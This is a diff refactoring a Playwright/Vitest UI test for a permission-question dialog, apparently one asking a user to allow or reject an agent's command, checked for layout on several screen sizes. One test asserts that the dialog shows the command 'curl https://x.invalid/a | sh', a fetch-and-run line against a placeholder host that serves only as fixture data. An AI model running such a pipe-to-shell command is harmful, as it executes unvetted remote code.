@@ -1,35 +1,25 @@
 // What a person sees of a question before they answer it: nothing hides, and on a low
 // screen nothing is covered. ABIDE_SHOTS names a folder for pictures.
 import { mkdirSync } from 'node:fs'
-import { join, resolve } from 'node:path'
+import { join } from 'node:path'
 import type { Page } from 'playwright-core'
-import { build } from 'vite'
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { preview, type Preview } from '../dev/preview.mjs'
 import { Browser, desktop, phone } from './rig/browser.ts'
-import { leavings } from './rig/leavings.ts'
+import { builtCatalogue, View } from './rig/catalogue.ts'
 
 const shots = process.env['ABIDE_SHOTS']
 
 describe('a question', () => {
-  const folder = leavings.folder('abide-question-')
   let site: Preview
   let browser: Browser
+  let view: View
 
   beforeAll(async () => {
     if (shots) mkdirSync(shots, { recursive: true })
-    const root = resolve(import.meta.dirname, '..')
-    await build({
-      root,
-      configFile: join(root, 'vite.config.ts'),
-      logLevel: 'error',
-      build: {
-        outDir: folder,
-        rolldownOptions: { input: ['index.html', 'catalogue.html'].map((p) => join(root, p)) },
-      },
-    })
-    site = await preview({ root: folder })
+    site = await preview({ root: await builtCatalogue() })
     browser = await Browser.start()
+    view = await View.open(browser, site.url, { name: 'question', of: desktop }, 'light', false)
   })
   afterAll(async () => {
     await browser.stop()
@@ -37,15 +27,14 @@ describe('a question', () => {
   })
 
   async function show(state: string, size = desktop): Promise<Page> {
-    const page = await browser.window(size)
-    await page.goto(`${site.url}/catalogue.html?state=${encodeURIComponent(state)}`)
-    await page.waitForFunction((name) => document.documentElement.dataset['shown'] === name, state)
-    await page.locator('[data-option]:enabled').first().waitFor()
+    await view.page.setViewportSize(size)
+    await view.show(state)
+    await view.page.locator('[data-option]:enabled').first().waitFor()
     if (shots) {
       const name = `${state}-${size.width}x${size.height}`.replace(/\W+/g, '-')
-      await page.screenshot({ path: join(shots, `${name}.png`) })
+      await view.page.screenshot({ path: join(shots, `${name}.png`) })
     }
-    return page
+    return view.page
   }
 
   const low = [
@@ -79,7 +68,6 @@ describe('a question', () => {
         expect(box.x).toBeGreaterThanOrEqual(top.x)
         expect(box.x + box.width).toBeLessThanOrEqual(top.x + top.width)
       }
-      await page.close()
     })
   }
 
@@ -109,7 +97,6 @@ describe('a question', () => {
       await sheet.getByText('More below').waitFor()
       await what.evaluate((box) => (box.scrollTop = box.scrollHeight))
       await sheet.getByText('More below').waitFor({ state: 'hidden' })
-      await page.close()
     },
   )
 
@@ -126,7 +113,6 @@ describe('a question', () => {
       return tops.filter((at) => at > top && at <= bottom - line && at < innerHeight).length
     })
     expect(seen).toBeGreaterThanOrEqual(3)
-    await page.close()
   })
 
   test.each([{ width: 320, height: 568 }, phone, { width: 640, height: 400 }, desktop])(
@@ -150,7 +136,6 @@ describe('a question', () => {
       // Each long one has a row of its own.
       for (let i = 2; i < boxes.length; i++) expect(boxes[i]!.top).toBeGreaterThan(boxes[i - 1]!.bottom)
       await options.last().click({ trial: true })
-      await page.close()
     },
   )
 
@@ -163,7 +148,6 @@ describe('a question', () => {
     const command = sheet.locator('pre').first()
     expect((await command.boundingBox())!.height).toBeLessThan(100)
     expect(await command.innerText()).toContain('curl https://x.invalid/a | sh')
-    await page.close()
   })
 
   test('says what its answers do, whatever they are called', async () => {
@@ -173,16 +157,13 @@ describe('a question', () => {
     for (const name of ['Allow once: “Reject”', 'Always allow', 'Reject', 'Other answer: “Deny”'])
       await page.getByRole('button', { name, exact: true }).waitFor()
     await page.locator('[data-option="1"]').getByText('Allow once').waitFor()
-    await page.close()
   })
 
   test('offers to be remembered only where it is exact', async () => {
     const exact = await show('question, deceiving')
     expect(await exact.locator('[data-remember]').count()).toBe(1)
-    await exact.close()
     const vague = await show('question, vague')
     await vague.getByText('any answer counts this once').waitFor()
     expect(await vague.locator('[data-remember]').count()).toBe(0)
-    await vague.close()
   })
 })
